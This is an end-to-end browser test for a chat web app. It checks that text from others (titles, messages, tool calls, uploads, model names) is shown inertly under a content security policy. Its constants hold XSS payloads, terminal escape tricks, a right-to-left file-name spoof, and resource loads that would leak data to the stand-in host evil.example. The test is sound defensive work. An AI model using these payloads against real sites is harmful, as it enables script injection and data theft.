// Texts that want to be markup, wherever the web app shows words of somebody else: nothing of them acts.
import type { Request } from 'playwright-core';
import { describe, expect, it } from 'vitest';
import { chatForTests } from '../support/chat-in-browser.ts';
import { eventually, PATIENCE, threadList, type WebApp } from '../support/web-app.ts';

/** Acts as soon as anything takes it for markup; without a slash, so that it can be the name of a file. */
const ACTING = '"><img src=x onerror=globalThis.owned=1><svg onload=globalThis.owned=1>';
const LINK =
  '[press](javascript:globalThis.owned=1) [more](data:text/html,<script>globalThis.owned=1</script>)';
const HTML = `<script>globalThis.owned=1</script><iframe srcdoc="<script>top.owned=1</script>"></iframe><style>*{display:none}</style>`;
const TERMINAL =
  '\u001b]8;;javascript:globalThis.owned=1\u0007press\u001b]8;;\u0007\u001b[2J\u001b]0;owned\u0007';
/** Would tell somebody elsewhere what is read here, as soon as it is shown. */
const ELSEWHERE = 'https://evil.example/?q=secret';
const TELLING = [
  `<link rel="prefetch" href="${ELSEWHERE}"><link rel="icon" href="${ELSEWHERE}"><base href="${ELSEWHERE}">`,
  `<style>@import "${ELSEWHERE}"; body { background: url(${ELSEWHERE}) }</style>`,
  `<img src="${ELSEWHERE}" srcset="${ELSEWHERE} 2x"><video poster="${ELSEWHERE}" src="${ELSEWHERE}"></video>`,
  `<svg><image href="${ELSEWHERE}"/></svg><meta http-equiv="refresh" content="0;url=${ELSEWHERE}">`,
  `\n\n![x](${ELSEWHERE}) ![y][z] <${ELSEWHERE}>\n\n[z]: ${ELSEWHERE}\n\n`,
  `\n\n\`\`\`mermaid\ngraph TD; A-->B; click A "${ELSEWHERE}"\n\`\`\`\n\n`,
].join('');
const EVIL = `${ACTING}${HTML}${LINK}${TERMINAL}\u202etxt.exe`;

const CONFIG = `
models:
  - { name: demo, provider: demo, model: demo, display_name: '${ACTING}', description: '${ACTING}' }
  - { name: broken, display_name: '${ACTING}', provider: openai-compatible, model: none, base_url: 'http://127.0.0.1:2', api_key: none }
sandbox: { kind: virtual }
`;

describe('texts of others', PATIENCE, () => {
  const chat = chatForTests(CONFIG);

  it('[hostile.S12] [hostile.S55] in titles, messages, calls, results, files, models and searches do not act, and load nothing from elsewhere', async () => {
    const { app } = chat;
    const { page } = app;
    const dialogs: string[] = [];
    const asked: Request[] = [];
    page.on('dialog', (dialog) => {
      dialogs.push(dialog.message());
      void dialog.dismiss();
    });
    page.on('request', (request) => asked.push(request));
    await app.send('count to 2');
    await app.untilAnswer(/1 2/);
    await app.untilIdle();
    await plant(app);
    const answer = await page.reload();
    expect(answer?.headers()['content-security-policy']).toContain("script-src 'self'");
    await app.untilAnswer(/harmless end/);
    const folded = page.locator('main [data-tool] button[aria-expanded="false"]');
    for (let left = await folded.count(); left > 0; left -= 1) await folded.first().press('Enter');
    await page.getByText('last result').first().waitFor();
    await searched(app);
    await modelsSeen(app);
    expect(app.complaints).toEqual([]);
    await filesSeen(app);
    expect(await page.evaluate('globalThis.owned')).toBe(undefined);
    expect(dialogs).toEqual([]);
    await eventually(() => askedElsewhere(chat.service.url, asked)).toEqual([]);
    expect(await acting(app)).toBe(0);
    // A page is shown as what it is, in a frame: what it would load is blocked there, and nothing else is complained of.
    const blocked = /'https:\/\/evil\.example\/.* has been blocked\.$/;
    expect(app.complaints.filter((it) => !blocked.test(it))).toEqual([]);
    // What was said is there, as the text that it is.
    await threadList(page).getByRole('link', { name: 'onerror=globalThis.owned=1' }).first().waitFor();
  });
});

/** Addresses elsewhere that were asked. A request that the page's policy stopped in the browser did not leave it. */
function askedElsewhere(home: string, asked: readonly Request[]): string[] {
  return asked
    .filter((request) => request.failure()?.errorText !== 'csp')
    .map((request) => request.url())
    .filter((url) => !url.startsWith(home) && !/^(data|blob):/.test(url));
}

/** What would act when it is loaded or pressed. */
function acting({ page }: WebApp): Promise<number> {
  return page
    .locator(
      '[onerror], [onload], [onclick], [href^="javascript:" i], [href^="data:" i], main script, iframe[srcdoc*="owned"]:not([sandbox=""])',
    )
    .count();
}

async function plant(app: WebApp): Promise<void> {
  const { page } = app;
  const threadId = new URL(page.url()).pathname.split('/').at(-1);
  const cookies = await page.context().cookies();
  const headers = { 'X-CSRF-Token': cookies.find(({ name }) => name === 'csrf_token')?.value ?? '' };
  const call = (id: string, name: string, args: object) => ({ type: 'tool_call', id, name, args });
  const calls = [
    call('c1', 'bash', { description: EVIL, command: EVIL }),
    call('c2', 'task', { description: EVIL, prompt: EVIL, subagent_type: EVIL }),
    // As long as a name may be.
    call('c3', EVIL.slice(0, 256), { [EVIL]: EVIL }),
    call('c4', 'write_file', { path: `/mnt/user-data/workspace/${ACTING}.html`, content: EVIL }),
    call('c5', 'web_search', { query: EVIL }),
    call('c6', 'ls', { path: EVIL }),
  ];
  const results = calls.map(({ id, name }, index) => ({
    type: 'tool',
    tool_call_id: id,
    name,
    content: `${EVIL}${TELLING}\nlast result`,
    status: index % 2 === 0 ? 'success' : 'error',
  }));
  const values = {
    title: ACTING,
    messages: [
      { type: 'human', content: `${EVIL}${TELLING}` },
      {
        type: 'ai',
        content: `${EVIL}${TELLING}`,
        tool_calls: calls,
        additional_kwargs: { reasoning_content: EVIL },
      },
      ...results,
      {
        type: 'ai',
        content: `${EVIL}${TELLING}\n\n<details open ontoggle=globalThis.owned=1>x</details>\n\nharmless end`,
      },
    ],
  };
  const set = await page.request.post(`/api/threads/${threadId}/state`, { headers, data: { values } });
  expect(set.status()).toBe(200);
  const file = { name: `${ACTING}.txt`, mimeType: 'text/html', buffer: Buffer.from(`${EVIL}${TELLING}`) };
  const page1 = { name: `${ACTING}.html`, mimeType: 'text/html', buffer: Buffer.from(`${EVIL}${TELLING}`) };
  const sent = await page.request.post(`/api/threads/${threadId}/uploads`, {
    headers,
    multipart: { files: file },
  });
  expect(sent.status()).toBe(200);
  await page.request.post(`/api/threads/${threadId}/uploads`, { headers, multipart: { files: page1 } });
}

async function searched({ page }: WebApp): Promise<void> {
  const search = page.getByRole('combobox', { name: 'Search titles and messages' });
  for (const words of ['onerror', 'harmless', 'globalThis owned']) {
    await search.fill(words);
    await page.getByRole('option').first().waitFor();
  }
  await page.getByRole('button', { name: 'Clear the search' }).click();
}

async function modelsSeen({ page }: WebApp): Promise<void> {
  await page.getByRole('button', { name: /^Model:/ }).click();
  await page.getByRole('menuitemradio').last().waitFor();
  await page.keyboard.press('Escape');
}

async function filesSeen({ page }: WebApp): Promise<void> {
  await page
    .getByRole('button', { name: /^Files/ })
    .first()
    .click();
  const panel = page.getByRole('region', { name: 'Files', exact: true });
  await panel.waitFor();
  await eventually(() => panel.textContent()).toContain('Uploads');
  await panel.getByRole('tab', { name: /Uploads/ }).click();
  for (const ending of ['.txt', '.html']) {
    await panel
      .getByRole('button', { name: new RegExp(`owned=1>\\${ending}`) })
      .first()
      .click();
    await panel.getByRole('button', { name: 'All files' }).waitFor();
    await panel.getByRole('button', { name: 'All files' }).click();
  }
}
